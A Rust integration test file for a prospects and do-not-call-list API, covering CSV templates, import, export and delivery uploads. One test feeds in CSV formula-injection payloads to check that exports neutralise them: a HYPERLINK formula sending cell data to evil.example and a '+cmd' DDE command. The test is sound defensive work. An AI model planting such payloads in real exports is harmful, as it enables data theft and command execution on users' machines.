//! The prospects file routes through the real router, on SQLite and (with
//! `AGENT5_TEST_MONGO_URI`) on MongoDB: CSV templates, the DNC list, export and
//! import, the deliveries upload and the prospects export.

#![allow(clippy::expect_used)] // a test: a failed expectation is the failure

mod common;

use common::router::{call, call_raw, names, seeded, upload};

use std::sync::Arc;

use agent5_api::model::{DncEntry, DncSource};
use agent5_api::store::SharedStore;

/// 1200 DNC entries from an upload, one with a reason holding quotes and a comma.
async fn dnc_entries(store: &SharedStore) {
    let entries: Vec<DncEntry> = (0..1200)
        .map(|i| DncEntry {
            phone_e164: format!("+3247000{i:04}"),
            reason: if i == 7 {
                "said \"stop\", twice".into()
            } else {
                String::new()
            },
            source: DncSource::Upload,
            added_by: "import".into(),
            added_at: 1_795_488_292_000,
        })
        .collect();
    store.add_dnc(entries).await.expect("dnc");
}

async fn the_templates_list_the_columns_and_the_visible_custom_fields(store: SharedStore) {
    let app = seeded(Arc::clone(&store)).await;
    for (key, visibility, order) in [
        ("both_f", "both", 3),
        ("inv_f", "invoice", 2),
        ("del_f", "delivery", 1),
    ] {
        let body = format!(
            r#"{{"key":"{key}","label":"{key}","visibility":"{visibility}","order":{order}}}"#
        );
        assert_eq!(
            call(&app, "POST", "/api/prospects/field-defs", Some(&body))
                .await
                .0,
            201
        );
    }
    let (status, headers, text) = call_raw(&app, "/api/prospects/template.csv").await;
    assert_eq!(status, 200);
    assert_eq!(headers["content-type"], "text/csv; charset=utf-8");
    assert_eq!(
        headers["content-disposition"],
        "attachment; filename=\"prospects_template.csv\""
    );
    let expected = format!(
        "{},custom_inv_f,custom_both_f\r\n",
        agent5_api::prospects::columns::invoice_header()
            .collect::<Vec<_>>()
            .join(",")
    );
    assert_eq!(text, expected);
    let (_, _, text) = call_raw(&app, "/api/prospects/deliveries_template.csv").await;
    let expected = format!(
        "{},custom_del_f,custom_both_f\r\n",
        agent5_api::prospects::columns::deliveries_template_header()
            .collect::<Vec<_>>()
            .join(",")
    );
    assert_eq!(text, expected);
}

async fn the_dnc_list_pages_searches_and_refuses_bad_parameters(store: SharedStore) {
    let app = seeded(Arc::clone(&store)).await;
    dnc_entries(&store).await;
    let (status, v) = call(&app, "GET", "/api/dnc", None).await;
    assert_eq!(status, 200);
    assert_eq!(v["items"].as_array().expect("items").len(), 100);
    assert_eq!(v["has_more"], true);
    assert_eq!(v["items"][0]["phone_e164"], "+32470000000");
    assert_eq!(v["items"][0]["source"], "upload");
    assert_eq!(v["items"][0]["added_at"], "2026-11-24T02:44:52.000000Z");
    let (_, v) = call(&app, "GET", "/api/dnc?q=%2B3247000119&page_size=50", None).await;
    let phones: Vec<&str> = v["items"]
        .as_array()
        .expect("items")
        .iter()
        .map(|e| e["phone_e164"].as_str().unwrap_or_default())
        .collect();
    assert_eq!(
        phones,
        (1190..1200)
            .map(|i| format!("+3247000{i:04}"))
            .collect::<Vec<_>>()
    );
    let (_, v) = call(&app, "GET", "/api/dnc?q=0470%2000%2000%2005", None).await;
    assert_eq!(
        v["items"].as_array().expect("items").len(),
        1,
        "a national number finds itself"
    );
    let (_, v) = call(&app, "GET", "/api/dnc?page=12&page_size=100", None).await;
    assert_eq!(v["items"].as_array().expect("items").len(), 100);
    assert_eq!(v["has_more"], false);
    for (uri, field) in [
        ("/api/dnc?q=acme", "q"),
        ("/api/dnc?page_size=5000", "page_size"),
        ("/api/dnc?page=0", "page"),
    ] {
        let (status, v) = call(&app, "GET", uri, None).await;
        assert_eq!(status, 400, "{uri}");
        assert_eq!(v["error"]["field"], field, "{uri}");
    }
}

async fn the_dnc_export_holds_every_entry_across_chunks(store: SharedStore) {
    let app = seeded(Arc::clone(&store)).await;
    dnc_entries(&store).await;
    let (status, headers, csv) = call_raw(&app, "/api/dnc/export.csv").await;
    assert_eq!(status, 200);
    assert_eq!(
        headers["content-disposition"],
        "attachment; filename=\"dnc.csv\""
    );
    let lines: Vec<&str> = csv.split("\r\n").filter(|l| !l.is_empty()).collect();
    assert_eq!(
        lines.len(),
        1201,
        "header and every entry, across export chunks"
    );
    assert_eq!(lines[0], "phone_e164,reason,source,added_by,added_at");
    assert_eq!(
        lines[8],
        "+32470000007,\"said \"\"stop\"\", twice\",upload,import,2026-11-24T02:44:52.000000Z"
    );
}

async fn dnc_import_route(store: SharedStore) {
    let app = seeded(Arc::clone(&store)).await;
    store
        .add_dnc(vec![DncEntry {
            phone_e164: "+32475123456".into(),
            reason: "earlier".into(),
            source: DncSource::Ui,
            added_by: "ops".into(),
            added_at: 1,
        }])
        .await
        .expect("dnc");
    let file = "Telefoon;Reason\r\n0475 12 34 56;again\r\n+32 2 511 12 34;national list\r\n0032 3 231 12 34;\r\nnot a number;x\r\n\r\n09 223 45 67;\r\n";
    let (status, v) = upload(&app, "/api/dnc/import", file).await;
    assert_eq!(status, 200);
    assert_eq!(v["total"], 5);
    assert_eq!(v["added"], 3);
    assert_eq!(
        v["already_listed"], 1,
        "the earlier entry is kept as it was"
    );
    assert_eq!(v["failed"], 1);
    assert_eq!(v["failed_items"][0]["row"], 5);
    assert_eq!(v["failed_items"][0]["error_code"], "INVALID_PHONE");
    let listed = store
        .dnc_lookup(&[
            "+3225111234".into(),
            "+3232311234".into(),
            "+3292234567".into(),
        ])
        .await
        .expect("lookup");
    assert_eq!(listed.len(), 3);
    let (_, page) = call(&app, "GET", "/api/dnc?q=%2B3225111234", None).await;
    assert_eq!(page["items"][0]["reason"], "national list");
    assert_eq!(page["items"][0]["added_by"], "ops@acme");
    let (_, page) = call(&app, "GET", "/api/dnc?q=%2B32475123456", None).await;
    assert_eq!(page["items"][0]["reason"], "earlier");
    // The list rows follow: the invoice phone of Acme (+3225111234) is now opted out.
    let (_, rows) = call(&app, "GET", "/api/prospects?opt_out=1", None).await;
    assert_eq!(names(&rows), vec!["Acme", "Beta"]);

    let bad = "name;city\r\nx;y\r\n";
    let (status, v) = upload(&app, "/api/dnc/import", bad).await;
    assert_eq!(status, 400);
    assert_eq!(v["error"]["code"], "unknown_columns");
}

async fn deliveries_and_export_routes(store: SharedStore) {
    let app = seeded(Arc::clone(&store)).await;
    let file = "parent_invoice_phone,parent_email,delivery_contact_name,delivery_address,delivery_phone,delivery_opt_out\r\n\
        02 511 12 34,,Acme Depot,Havenlaan 1,0475 12 34 56,0\r\n\
        +32 3 231 12 34,,Beta Shop,\"Markt 1, Antwerpen\",,yes\r\n\
        ,nobody@x.be,Ghost,Nowhere 1,,\r\n";
    let (status, dry) = upload(&app, "/api/prospects/upload_deliveries?dry_run=1", file).await;
    assert_eq!(status, 200, "{dry}");
    assert_eq!(
        (dry["imported"].as_u64(), dry["dry_run"].as_bool()),
        (Some(2), Some(true))
    );
    let (status, r) = upload(&app, "/api/prospects/upload_deliveries", file).await;
    assert_eq!(status, 200, "{r}");
    // Acme's depot matches its stored delivery_1 by phone; Beta gets a new delivery_1.
    assert_eq!(
        (
            r["total"].as_u64(),
            r["created"].as_u64(),
            r["updated"].as_u64(),
            r["unchanged"].as_u64()
        ),
        (Some(3), Some(1), Some(1), Some(0)),
        "{r}"
    );
    assert_eq!(r["imported_items"][1]["code"], "delivery_1");
    assert_eq!(r["failed_items"][0]["row"], 4);
    assert_eq!(r["failed_items"][0]["error_code"], "PARENT_NOT_FOUND");
    assert_eq!(
        r["failed_items"][0]["original_row"]["delivery_contact_name"],
        "Ghost"
    );
    let (_, again) = upload(&app, "/api/prospects/upload_deliveries", file).await;
    assert_eq!(
        (again["created"].as_u64(), again["updated"].as_u64()),
        (Some(0), Some(0))
    );
    let (_, rows) = call(&app, "GET", "/api/prospects?scope=delivery", None).await;
    assert_eq!(names(&rows), vec!["Acme Depot", "Beta Shop"]);
    // A prospects header on the deliveries route is refused, naming the columns.
    let (status, bad) = upload(
        &app,
        "/api/prospects/upload_deliveries",
        "invoice_phone,delivery_1_city\r\n02 511 12 34,Gent\r\n",
    )
    .await;
    assert_eq!(status, 400);
    assert_eq!(bad["error"]["code"], "unknown_columns");
    assert!(bad["error"]["message"]
        .as_str()
        .is_some_and(|m| m.contains("invoice_phone")));

    let (status, headers, csv) = call_raw(&app, "/api/prospects/export.csv").await;
    assert_eq!(status, 200);
    assert_eq!(headers["content-type"], "text/csv; charset=utf-8");
    assert!(headers["content-disposition"]
        .to_str()
        .is_ok_and(|d| d.contains("prospects.csv")));
    let mut lines = csv.trim_start_matches('\u{feff}').lines();
    let header = lines.next().expect("header");
    assert!(
        header.starts_with("invoice_contact_name,invoice_company,"),
        "{header}"
    );
    assert!(header.contains(",delivery_1_contact_name,") && !header.contains("delivery_2_"));
    let beta = csv
        .lines()
        .find(|l| l.starts_with("Beta,"))
        .expect("beta row");
    assert!(beta.contains("\"Markt 1, Antwerpen\""), "{beta}");
    assert_eq!(lines.count(), 2);
    let (status, e) = call(
        &app,
        "GET",
        "/api/prospects/export.csv?show_archived=2",
        None,
    )
    .await;
    assert_eq!(
        (status, e["error"]["field"].as_str()),
        (400, Some("show_archived"))
    );
}

/// Cells a spreadsheet would run as formulas leave both exports with a leading `'`;
/// phone numbers stay numbers; the export re-imports to the same values.
async fn formula_cells_leave_neutralised(store: SharedStore) {
    let app = seeded(Arc::clone(&store)).await;
    let file = "invoice_contact_name,invoice_company,invoice_phone,invoice_tags\r\n\
        \"=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\",+cmd|' /C calc'!A0,+32470999888,@SUM(1+1)\r\n";
    let (status, r) = upload(&app, "/api/prospects/upload", file).await;
    assert_eq!((status, r["imported"].as_u64()), (200, Some(1)), "{r}");
    let (status, _) = call(
        &app,
        "PATCH",
        "/api/prospects/phone/+32470999888/opt-out",
        Some(r#"{"opt_out": true, "reason": "-2+3 said the model"}"#),
    )
    .await;
    assert_eq!(status, 200);
    let (_, _, csv) = call_raw(&app, "/api/prospects/export.csv").await;
    let row = csv
        .lines()
        .find(|l| l.starts_with("\"'="))
        .expect("the formula row");
    assert!(
        row.starts_with("\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\",'+cmd|' /C calc'!A0,"),
        "{row}"
    );
    assert!(
        row.contains(",+32470999888,") && row.contains(",'@sum(1+1),"),
        "{row}"
    );
    let (_, _, dnc) = call_raw(&app, "/api/dnc/export.csv").await;
    assert!(dnc.contains("+32470999888,'-2+3 said the model,"), "{dnc}");
    // Re-imported, the export changes nothing: the `'` comes off again.
    let (_, again) = upload(&app, "/api/prospects/upload", &csv).await;
    assert_eq!(
        again["failed_items"].as_array().map(Vec::len),
        Some(0),
        "{again}"
    );
    let (_, rows) = call(&app, "GET", "/api/prospects", None).await;
    let names = names(&rows);
    assert_eq!(names.len(), 3, "{names:?}");
    assert!(names.contains(&"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")".to_owned()));
}

/// A report is never much bigger than the upload: failed rows full of control
/// characters (6 bytes each once escaped in JSON) come back cut short, and say so.
async fn reports_are_bounded(store: SharedStore) {
    let app = seeded(Arc::clone(&store)).await;
    let junk = "\u{1}".repeat(20_000);
    let mut file = String::from("invoice_contact_name,invoice_phone\r\n");
    for _ in 0..20 {
        file.push_str(&format!("{junk},{junk}\r\n"));
    }
    let (status, r) = upload(&app, "/api/prospects/upload", &file).await;
    assert_eq!(status, 200, "{r}");
    assert_eq!(r["failed"], 20);
    let item = &r["failed_items"][0];
    assert_eq!(item["original_row_truncated"], true, "{item}");
    for (column, cell) in item["original_row"].as_object().expect("row") {
        assert!(
            cell.as_str().is_some_and(|c| c.chars().count() <= 256),
            "{column}"
        );
    }
    assert!(item["error_message"]
        .as_str()
        .is_some_and(|m| m.chars().count() <= 512));
    let report = r.to_string().len();
    assert!(
        report < file.len(),
        "a {report}-byte report for a {}-byte upload",
        file.len()
    );
}

common::on_both_stores!(
    reports_are_bounded,
    formula_cells_leave_neutralised,
    the_templates_list_the_columns_and_the_visible_custom_fields,
    the_dnc_list_pages_searches_and_refuses_bad_parameters,
    the_dnc_export_holds_every_entry_across_chunks,
    dnc_import_route,
    deliveries_and_export_routes,
);
